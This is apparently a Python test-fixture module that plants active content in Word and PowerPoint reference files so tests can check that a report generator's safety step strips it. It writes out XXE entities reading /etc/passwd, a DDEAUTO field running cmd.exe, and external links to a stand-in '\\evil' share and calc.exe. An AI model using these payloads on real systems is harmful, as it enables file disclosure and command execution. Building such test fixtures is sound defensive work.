"""Hostile reference files: the built-in .docx and .pptx with active content added to them.

Each carries an embedded OLE object, an ActiveX control, a macro project, DOCTYPEs with an
external `file:///` entity (a theme, a Word customXml part, a slide layout), DDE / DDEAUTO /
INCLUDETEXT fields, links outside the file and parts nothing refers to, as found by an
adversarial round (issue 19). What each is made of is listed in `PLANTED`, so tests can say which
parts must not reach an output.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS = "http://schemas.microsoft.com/office/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_DOCTYPE = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'

#: Parts planted in each hostile file that no output may hold.
PLANTED = {
    "docx": (
        "word/embeddings/oleObject1.bin",
        "word/activeX/activeX1.xml",
        "word/activeX/activeX1.bin",
        "word/vbaProject.bin",
        "word/afchunk.htm",
        "word/orphan.xml",
        "evil/payload.exe",
    ),
    "pptx": (
        "ppt/embeddings/oleObject1.bin",
        "ppt/activeX/activeX1.xml",
        "ppt/activeX/activeX1.bin",
        "ppt/vbaProject.bin",
        "ppt/orphan.xml",
        "evil/payload.exe",
    ),
}


def _rel(rid: str, kind: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'


def _rels(*entries: str) -> bytes:
    body = "".join(entries)
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>'.encode()


def _add_rels(data: bytes, *entries: str) -> bytes:
    return data.replace(b"</Relationships>", "".join(entries).encode() + b"</Relationships>")


def _with_doctype(data: bytes, entity_at: bytes | None = None) -> bytes:
    """The part with a DOCTYPE declaring an external entity after its declaration, and a reference
    to the entity after the first `entity_at` (when given)."""
    end = data.index(b"?>") + 2 if data.startswith(b"<?xml") else 0
    data = data[:end] + _DOCTYPE + data[end:]
    if entity_at is not None:
        at = data.index(entity_at) + len(entity_at)
        data = data[:at] + b"&e;" + data[at:]
    return data


def _override(name: str, content_type: str) -> str:
    return f'<Override PartName="/{name}" ContentType="{content_type}"/>'


def _read(source: Path, *names: str) -> list[bytes]:
    with zipfile.ZipFile(source) as archive:
        return [archive.read(name) for name in names]


def _write(source: Path, dest: Path, parts: dict[str, bytes], overrides: list[str]) -> Path:
    with zipfile.ZipFile(source) as archive:
        existing = {info.filename: archive.read(info) for info in archive.infolist()}
    types = existing["[Content_Types].xml"].replace(b"</Types>", "".join(overrides).encode() + b"</Types>")
    existing.update(parts)
    existing["[Content_Types].xml"] = types
    with zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in existing.items():
            archive.writestr(name, data)
    return dest


def _active_parts(folder: str) -> dict[str, bytes]:
    """An OLE object, an ActiveX control (its part and binary) and a macro project under `folder`."""
    control = (
        '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStorage" r:id="rId1" '
        f'xmlns:r="{R}"/>'
    )
    return {
        f"{folder}/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Package",
        f"{folder}/activeX/activeX1.xml": control.encode(),
        f"{folder}/activeX/_rels/activeX1.xml.rels": _rels(_rel("rId1", f"{MS}/activeXControlBinary", "activeX1.bin")),
        f"{folder}/activeX/activeX1.bin": b"\xd0\xcf\x11\xe0 control",
        f"{folder}/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros",
    }


def _object_rels(up: str) -> tuple[str, str]:
    """rId90: the OLE object, rId91: the ActiveX control of `_active_parts`, from a part `up` of them."""
    return (
        _rel("rId90", f"{R}/oleObject", f"{up}embeddings/oleObject1.bin"),
        _rel("rId91", f"{R}/control", f"{up}activeX/activeX1.xml"),
    )


def _field_paragraphs() -> str:
    """Paragraphs holding a DDEAUTO and a DDE complex field (the first split over runs, as Word
    may write it), an INCLUDETEXT simple field and a PAGE field, which is allowed."""

    def complex_field(*instruction: str, result: str) -> str:
        runs = "".join(f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>' for part in instruction)
        return (
            f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        )

    ddeauto = complex_field(" DDE", 'AUTO c:\\windows\\system32\\cmd.exe "/k calc" ', result="dde result")
    dde = complex_field(' DDE excel "sheet" ', result="dde2 result")
    return (
        f"<w:p>{ddeauto}</w:p>"
        f"<w:p>{dde}</w:p>"
        '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;file:///etc/passwd&quot; "><w:r><w:t>included</w:t></w:r>'
        "</w:fldSimple></w:p>"
        f"<w:p>{complex_field(' PAGE ', result='1')}</w:p>"
    )


def hostile_docx(source: Path, dest: Path) -> Path:
    """The Word reference at `source` with active content added, written to `dest`."""
    document, rels, theme, custom = _read(
        source, "word/document.xml", "word/_rels/document.xml.rels", "word/theme/theme1.xml", "customXml/item1.xml"
    )
    objects = (
        '<w:p><w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office">'
        '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" r:id="rId90"/>'
        '<w:control r:id="rId91" w:name="CommandButton1"/></w:object></w:r></w:p>'
    )
    document = document.replace(b"<w:body>", f"<w:body>{objects}".encode(), 1)
    story = f'<w:{{0}} xmlns:w="{W}" xmlns:r="{R}">{{1}}</w:{{0}}>'
    footnotes = story.format(
        "footnotes",
        '<w:footnote w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p></w:footnote>'
        f'<w:footnote w:id="1">{_field_paragraphs()}</w:footnote>',
    )
    glossary = story.format(
        "glossaryDocument",
        '<w:docParts><w:docPart><w:docPartPr><w:name w:val="Evil"/></w:docPartPr>'
        f"<w:docPartBody>{_field_paragraphs()}</w:docPartBody></w:docPart></w:docParts>",
    )
    orphan = story.format("hdr", _field_paragraphs())
    parts = {
        "word/document.xml": document,
        "word/_rels/document.xml.rels": _add_rels(
            rels,
            *_object_rels(""),
            _rel("rId92", f"{MS}/vbaProject", "vbaProject.bin"),
            _rel("rId93", f"{R}/footnotes", "footnotes.xml"),
            _rel("rId94", f"{R}/glossaryDocument", "glossary/document.xml"),
            _rel("rId95", f"{R}/image", "file:///etc/passwd", external=True),
            _rel("rId96", f"{R}/hyperlink", "https://example.org/", external=True),
            _rel("rId97", f"{R}/subDocument", "\\\\evil\\share\\x.docx", external=True),
            _rel("rId98", f"{R}/aFChunk", "afchunk.htm"),
        ),
        **_active_parts("word"),
        "word/afchunk.htm": b"<html><body><iframe src='file:///etc/passwd'></iframe></body></html>",
        "word/footnotes.xml": footnotes.encode(),
        "word/glossary/document.xml": glossary.encode(),
        "word/orphan.xml": orphan.encode(),
        "evil/payload.exe": b"MZ payload",
        "word/theme/theme1.xml": _with_doctype(theme),
        "customXml/item1.xml": _with_doctype(custom.replace(b'"APA"/>', b'"APA">x</b:Sources>'), entity_at=b'"APA">'),
    }
    wml = "application/vnd.openxmlformats-officedocument.wordprocessingml"
    overrides = [
        _override("word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject"),
        _override("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
        _override("word/activeX/activeX1.bin", "application/vnd.ms-office.activeX"),
        _override("word/vbaProject.bin", "application/vnd.ms-office.vbaProject"),
        _override("word/afchunk.htm", "application/xhtml+xml"),
        _override("word/footnotes.xml", f"{wml}.footnotes+xml"),
        _override("word/glossary/document.xml", f"{wml}.document.glossary+xml"),
        _override("word/orphan.xml", f"{wml}.header+xml"),
        _override("evil/payload.exe", "application/octet-stream"),
    ]
    return _write(source, dest, parts, overrides)


def hostile_pptx(source: Path, dest: Path, controls: bool = True) -> Path:
    """The PowerPoint reference at `source` with active content added, written to `dest`: an OLE
    Package object and (with `controls`) an ActiveX control and a macro project, among the rest.
    Without them it passes the pack's safety check (reportgen.packs.security), which refuses
    those by name."""
    master, master_rels, presentation_rels, layout, theme = _read(
        source,
        "ppt/slideMasters/slideMaster1.xml",
        "ppt/slideMasters/_rels/slideMaster1.xml.rels",
        "ppt/_rels/presentation.xml.rels",
        "ppt/slideLayouts/slideLayout2.xml",
        "ppt/theme/theme1.xml",
    )
    ole = (
        '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="90" name="Object 1"/><p:cNvGraphicFramePr/><p:nvPr/>'
        '</p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></p:xfrm>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
        '<p:oleObj name="Packager Shell Object" r:id="rId90" progId="Package"><p:embed/></p:oleObj>'
        "</a:graphicData></a:graphic></p:graphicFrame>"
        '<p:sp><p:nvSpPr><p:cNvPr id="91" name="Link"><a:hlinkClick r:id="rId92"/></p:cNvPr><p:cNvSpPr/><p:nvPr/>'
        '</p:nvSpPr><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9144" cy="9144"/></a:xfrm></p:spPr></p:sp>'
    )
    master = master.replace(b"</p:spTree>", ole.encode() + b"</p:spTree>", 1)
    master = master.replace(
        b"</p:spTree>",
        b'</p:spTree><p:controls><p:control spid="_x0000_s1025" name="CommandButton1" r:id="rId91"/></p:controls>',
        1,
    )
    parts = {
        "ppt/slideMasters/slideMaster1.xml": master,
        "ppt/slideMasters/_rels/slideMaster1.xml.rels": _add_rels(
            master_rels,
            *_object_rels("../"),
            _rel("rId92", f"{R}/hyperlink", "file:///c:/windows/system32/calc.exe", external=True),
            _rel("rId93", f"{R}/image", "file:///etc/passwd", external=True),
        ),
        "ppt/_rels/presentation.xml.rels": _add_rels(
            presentation_rels,
            _rel("rId90", f"{MS}/vbaProject", "vbaProject.bin"),
            _rel("rId91", f"{R}/customXml", "../customXml/item1.xml"),
        ),
        **_active_parts("ppt"),
        "customXml/item1.xml": (
            b'<?xml version="1.0"?>'
            + _DOCTYPE
            + f'<data xmlns:w="{W}">&e;<w:fldSimple w:instr="DDEAUTO cmd"/></data>'.encode()
        ),
        "ppt/slideLayouts/slideLayout2.xml": _with_doctype(layout, entity_at=b"<a:t>"),
        "ppt/theme/theme1.xml": _with_doctype(theme),
        "ppt/orphan.xml": f'<w:hdr xmlns:w="{W}">{_field_paragraphs()}</w:hdr>'.encode(),
        "evil/payload.exe": b"MZ payload",
    }
    overrides = [
        _override("ppt/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject"),
        _override("ppt/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
        _override("ppt/activeX/activeX1.bin", "application/vnd.ms-office.activeX"),
        _override("ppt/vbaProject.bin", "application/vnd.ms-office.vbaProject"),
        _override("customXml/item1.xml", "application/xml"),
        _override("ppt/orphan.xml", "application/xml"),
        _override("evil/payload.exe", "application/octet-stream"),
    ]
    if not controls:
        _without_controls(parts, overrides)
    return _write(source, dest, parts, overrides)


def _without_controls(parts: dict[str, bytes], overrides: list[str]) -> None:
    for name in [n for n in parts if "activeX" in n or "vbaProject" in n]:
        del parts[name]
    overrides[:] = [o for o in overrides if "activeX" not in o and "vbaProject" not in o]
